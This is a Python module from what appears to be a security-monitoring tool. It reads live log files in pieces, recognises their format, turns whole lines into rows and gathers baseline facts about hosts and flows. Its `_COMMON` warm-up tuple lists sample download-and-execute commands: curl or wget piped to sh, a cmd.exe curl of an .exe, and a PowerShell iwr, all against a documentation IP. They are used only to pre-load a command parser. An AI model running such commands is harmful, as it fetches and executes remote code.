"""Reading what just came in: whole lines of a growing log become rows, and facts for what is usual and who is who.

The same readers and analytics as for a file at rest; a log's reader lives on from piece to piece, so that what it remembers of
the log is there. Whoever feeds it keeps what is not whole yet (`Read.held`) and gives it again in front of the next piece.
"""

from __future__ import annotations

import os
import re
import time
from collections import OrderedDict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec

from tidewaiter.baseline.counters import Cell, Counters
from tidewaiter.baseline.decay import HALF_LIFE
from tidewaiter.baseline.flows import FlowBaseline
from tidewaiter.correlation import wire_keys
from tidewaiter.correlation.glimpse import Glimpse, glimpse_of
from tidewaiter.log_source import HEAD_BYTES
from tidewaiter.pipeline import inputs
from tidewaiter.pipeline.inputs import Opened, Recognised
from tidewaiter.pipeline.rows import Row
from tidewaiter.pipeline.run import ItemReader, ItemResult
from tidewaiter.pipeline.years import YEAR, dated, is_undated
from tidewaiter.schema.account import Account
from tidewaiter.schema.event import Event

LOGS_KEPT = 512
"""Logs whose readers are kept at once."""
GENERATIONS_KEPT = 2
"""Generations of one log whose readers are kept: what is left of the one before may still come."""
FUTURE = 24 * 3_600 * 1_000_000
"""An event so much later than the wall clock (microseconds) has a wrong time: it counts as of now."""
_LINE_NUMBER = re.compile(r"^(\d+)(.*)$", re.S)


class Piece(msgspec.Struct, kw_only=True):
    """Whole lines of one log, as they came."""

    log_file: str
    first_line: int = 1  # 1-based number of the first line of `data`
    data: bytes
    head: bytes = b""  # beginning of the log, for recognising it and for headers
    generation: str = ""  # changes where the log file is another one
    final: bool = False  # nothing will follow soon: nothing is held back


class Facts(msgspec.Struct, kw_only=True, omit_defaults=True):
    """What was learned beside the rows; JSON can hold it. The shapes are those of ItemResult, FlowBaseline and Counters."""

    kinds: dict[str, list[str]] = {}
    names: dict[str, str] = {}
    folders: dict[str, list[str]] = {}
    addresses: dict[str, list[str]] = {}
    sides: list[tuple[str, str, int, int]] = []
    peers: dict[str, list[str]] = {}
    talkers: list[str] = []
    redirects: dict[str, str] = {}
    counters: list[tuple[str, str, str, float, int, int]] = []  # facet, key, host, level, first, last
    evicted: dict[str, int] = {}
    late: int = 0

    def flow_baseline(self) -> FlowBaseline:
        """What was seen of flows."""
        return FlowBaseline(
            sides={(host, service, bucket): count for host, service, bucket, count in self.sides},
            peers={peer: set(hosts) for peer, hosts in self.peers.items()},
            hosts=set(self.talkers),
            redirects=dict(self.redirects),
        )

    def counted(self) -> Counters:
        """What was counted for the baseline."""
        counted = Counters(evicted=dict(self.evicted), late=self.late)
        for facet, key, host, level, first, last in self.counters:
            counted.cells.setdefault(facet, {})[(key, host)] = Cell(level, first, last)
        return counted


class LiveRow(msgspec.Struct, array_like=True, gc=False):
    """A row as live engines pass it on: an event of the network whole, one of a host packed, behind a glimpse of it."""

    host: str
    time: int
    place: str
    event: Event | None
    glimpse: Glimpse | None = None

    @property
    def order(self) -> tuple[str, int, str]:
        """The one order of all rows, as `Row.order`."""
        return (self.host, self.time, self.place)


def live_row(row: Row) -> LiveRow:
    """A row packed for its way."""
    if row.host.startswith(wire_keys.PREFIX):
        return LiveRow(row.host, row.time, row.place, row.event)
    return LiveRow(row.host, row.time, row.place, None, glimpse_of(row.event, row.findings))


class Read(msgspec.Struct, kw_only=True):
    """What became of a piece."""

    rows: list[LiveRow] = []
    facts: Facts = msgspec.field(default_factory=Facts)
    account: Account | None = None  # of this piece alone
    held: bytes = b""  # lines at the end that may not be whole events yet
    held_line: int = 0  # number of their first line
    latest: int | None = None  # time of the latest event
    recognised_as: str | None = None
    problem: str | None = None  # why nothing of it was read
    future: int = 0  # events whose time cannot be right
    remembers: bool = False  # its reader joins lines: the log stays with the process that has it


def facts_of(result: ItemResult) -> Facts:
    """The facts of a result, as JSON can hold them."""
    return Facts(
        kinds=result.kinds,
        names=result.names,
        folders=result.folders,
        addresses=result.addresses,
        sides=[(*key, count) for key, count in result.usual.sides.items()],
        peers={peer: sorted(hosts) for peer, hosts in result.usual.peers.items()},
        talkers=sorted(result.usual.hosts),
        redirects=result.usual.redirects,
        counters=[
            (facet, key, host, cell.level, cell.first, cell.last)
            for facet, cells in result.seen.cells.items()
            for (key, host), cell in cells.items()
        ],
        evicted=result.seen.evicted,
        late=result.seen.late,
    )


class LiveReader:
    """Reads pieces of many logs, in one process."""

    def __init__(self, work_dir: Path, name: str, half_life: float = HALF_LIFE) -> None:
        self._reader = _PieceReader(work_dir, name, half_life)
        self._known: OrderedDict[tuple[str, str], tuple[Recognised, Any]] = OrderedDict()
        self._file = _PieceFile(work_dir / f"piece-{name}")

    def read(self, piece: Piece) -> Read:
        """Read one piece. Raises nothing for bad input: that is in what comes back."""
        known = self._recognised(piece)
        if known is None:
            return Read(problem="no log source knows this content")
        recognised, source = known
        whole = piece.data if piece.final else self._whole(piece.data, recognised, source)
        read = Read(recognised_as=recognised.name, remembers=hasattr(source, "whole"))
        if len(whole) < len(piece.data):
            read.held = piece.data[len(whole) :]
            read.held_line = piece.first_line + whole.count(b"\n")
        if whole:
            self._take(whole, piece, recognised, source, read)
        return read

    def _take(self, whole: bytes, piece: Piece, recognised: Recognised, source: Any, read: Read) -> None:
        header = header_of(piece.head) if piece.first_line > 1 else b""
        content = header + whole
        self._file.put(content)
        opened = Opened(path=self._file.path, log_file=piece.log_file, size=len(content), head=content[:HEAD_BYTES])
        result = self._reader.take(opened, recognised, source, piece.first_line - 1 - header.count(b"\n"))
        rows = self._reader.taken()
        read.facts = facts_of(result)
        read.account = result.accounts[0] if result.accounts else None
        if read.account is not None:
            read.latest = read.account.last
        if result.unreadable:
            read.problem = result.unreadable[0].problem
        limit = time.time_ns() // 1_000 + FUTURE
        for row in rows:
            if row.time > limit:
                row.time = row.event.time = limit - FUTURE
                read.future += 1
        read.rows = list(map(live_row, rows))

    def _recognised(self, piece: Piece) -> tuple[Recognised, Any] | None:
        key = (piece.log_file, piece.generation)
        known = self._known.get(key)
        if known is not None:
            self._known.move_to_end(key)
            return known
        for head in (piece.head, piece.data[:HEAD_BYTES]):
            if not head:
                continue
            self._file.put(head)
            opened = Opened(path=self._file.path, log_file=piece.log_file, size=len(head), head=head[:HEAD_BYTES])
            recognised = inputs.recognise(opened)
            if recognised is not None:
                known = self._known[key] = (recognised, self._reader.source(recognised))
                earlier = [one for one in self._known if one[0] == piece.log_file]
                for one in earlier[:-GENERATIONS_KEPT]:  # a log that is rotated for months must not leave a reader each time
                    del self._known[one]
                if len(self._known) > LOGS_KEPT:
                    self._known.popitem(last=False)
                return known
        return None

    @staticmethod
    def _whole(data: bytes, recognised: Recognised, source: Any) -> bytes:
        """The part of the lines that surely holds whole events: a log source that joins lines says how much it is."""
        del recognised
        ask = getattr(source, "whole", None)
        return data if ask is None else data[: ask(data)]


class _PieceFile:
    """The file that readers are given a piece in: in memory where the system has such, so that a full disk costs nothing."""

    def __init__(self, fallback: Path) -> None:
        self.path = fallback
        self._descriptor: int | None = None
        if hasattr(os, "memfd_create"):
            self._descriptor = os.memfd_create("piece", os.MFD_CLOEXEC)
            self.path = Path(f"/proc/self/fd/{self._descriptor}")

    def put(self, content: bytes) -> None:
        """Let the file hold this and nothing else. On a disk that is full it waits for room: the piece must not be lost."""
        if self._descriptor is not None:
            os.ftruncate(self._descriptor, 0)
            done = 0
            while done < len(content):
                done += os.pwrite(self._descriptor, content[done:], done)
            return
        while True:
            try:
                self.path.write_bytes(content)
                return
            except OSError:
                time.sleep(0.5)


def warm() -> None:
    """Load what reading commands needs, before the first one comes."""
    from tidewaiter.reading.reader import read

    for command, platform in _COMMON:
        read(command, platform)


_COMMON = (
    ("curl -o /tmp/a http://198.51.100.1/a && sh -c 'wget -O- http://198.51.100.1/b | sh'", "linux"),
    ("cmd.exe /c curl.exe -o a.exe http://198.51.100.1/a.exe", "windows"),
    ('powershell.exe -c "iwr http://198.51.100.1/a -OutFile a.exe"', "windows"),
)


def header_of(head: bytes) -> bytes:
    """The lines at the top of a log that say what its columns are (Zeek, W3C): those that begin with `#`."""
    end = 0
    while head[end : end + 1] == b"#":
        stop = head.find(b"\n", end)
        if stop < 0:
            return b""
        end = stop + 1
    return head[:end]


class _PieceReader(ItemReader):
    """The reader of files, given a log source that is already at work, and rows kept in memory instead of spilled."""

    keeps_rows = False

    def __init__(self, work_dir: Path, name: str, half_life: float) -> None:
        super().__init__(work_dir, name, half_life=half_life)
        self._shift = 0
        self._source: Any = None
        self._recognised: Recognised | None = None

    def source(self, recognised: Recognised) -> Any:
        """A fresh reader for a log; None where the container decides for each piece."""
        if recognised.family == "stream":
            from tidewaiter import log_source

            source = next(entry for entry in log_source.REGISTER if entry.name == recognised.name).load()
            if hasattr(source, "spare"):
                source.spare(self.needs)
            return source
        return None

    def take(self, opened: Opened, recognised: Recognised, source: Any, shift: int) -> ItemResult:
        """Read one piece whose line numbers are `shift` too low."""
        self._shift, self._source, self._recognised = shift, source, recognised
        result = ItemResult()
        self._read_input(opened, result)
        result.seen = self.observer.take()
        return result

    def taken(self) -> list[Row]:
        """The rows since last asked."""
        rows, self._rows = self._rows, []
        return rows

    def _recognise(self, _opened: Opened) -> Recognised | None:
        return self._recognised

    def _events(self, family: str, name: str, opened: Opened, account: Account) -> Iterator[list[Event]]:
        if self._source is None:
            batches: Iterator[list[Event]] = super()._events(family, name, opened, account)
        else:
            batches = self._source.read(opened, account)
        for events in batches:
            for event in events:
                if event.time < YEAR and is_undated(event.time):  # it was written just now
                    event.time = dated(event.time, time.time_ns() // 1_000)
                if self._shift:
                    match = _LINE_NUMBER.match(event.record)
                    if match is not None:
                        event.record = f"{int(match[1]) + self._shift}{match[2]}"
            yield events

    def _spill(self, result: ItemResult) -> None:
        """Rows stay in memory: a piece is small."""
